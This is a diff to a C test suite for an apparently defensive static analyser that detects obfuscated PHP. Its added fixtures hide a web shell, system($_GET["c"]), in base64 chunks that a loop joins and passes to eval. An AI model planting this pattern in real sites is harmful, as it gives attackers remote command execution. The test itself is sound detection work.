@@ -345,6 +345,13 @@ static void test_php_own_decoder(void) {
   CHECK(d && strstr(d->description, "eval() runs code that a character loop of the file") && strstr(d->description, "(line 3)"));
   CHECK(!analyze("PHP", "<?php $d = 'tr~xn{nzr~{so}jxytj'; $o = '';\nfor ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ 'k';\n"
                         "echo $o; $o = 'return 1;'; eval($o);"));
+  /* chunks glued back together by a loop (foreach, or for over the indices) before they are decoded and run */
+  d = analyze("PHP", "<?php $a = array('c3lzdGVt', 'KCRfR0VU', 'WyJjIl0p', 'Ow=='); $p = '';\n"
+                     "foreach ($a as $x) {\n$p .= $x;\n}\neval(base64_decode($p));");
+  CHECK(d && strstr(d->description, "reaches system()"));
+  d = analyze("PHP", "<?php $a = array('c3lzdGVt', 'KCRfR0VU', 'WyJjIl0p', 'Ow=='); $p = '';\n"
+                     "for ($i = 0; $i < count($a); $i++) $p .= $a[$i];\neval(base64_decode($p));");
+  CHECK(d && strstr(d->description, "reaches system()"));
   /* the prefilter reads a big file that calls a variable and carries a payload in a private alphabet */
   static char big[6000];
   memset(big, '#', sizeof big);
